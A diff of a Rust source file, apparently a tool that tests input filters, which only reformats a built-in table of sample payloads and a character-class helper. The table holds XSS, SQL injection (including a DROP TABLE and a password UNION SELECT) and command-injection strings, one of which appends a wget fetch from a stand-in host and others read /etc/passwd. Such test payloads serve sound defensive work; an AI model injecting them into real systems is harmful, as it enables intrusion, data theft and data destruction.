@@ -11,7 +11,10 @@ const SAMPLE_SIZE_MAX: usize = 4096;
 const BUILT_IN: [(&str, &[&str]); 3] = [
     ("xss", &["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>"]),
     ("sqli", &["' OR '1'='1' --", "1 UNION SELECT password FROM users--", "'; DROP TABLE users--"]),
-    ("command-injection", &["; cat /etc/passwd", "$(cat /etc/passwd)", "127.0.0.1 && wget http://a.example/x"]),
+    (
+        "command-injection",
+        &["; cat /etc/passwd", "$(cat /etc/passwd)", "127.0.0.1 && wget http://a.example/x"],
+    ),
 ];
 
 /// Something that a filter names.
@@ -137,7 +140,9 @@ fn write(hir: &Hir, choice: usize, out: &mut String) -> bool {
 /// A character of the class that reads well, if there is one.
 fn preferred(class: &Class) -> Option<char> {
     let contains = |one: char| match class {
-        Class::Unicode(class) => class.ranges().iter().any(|range| (range.start()..=range.end()).contains(&one)),
+        Class::Unicode(class) => {
+            class.ranges().iter().any(|range| (range.start()..=range.end()).contains(&one))
+        }
         Class::Bytes(class) => {
             class.ranges().iter().any(|range| (range.start()..=range.end()).contains(&(one as u8)))
         }
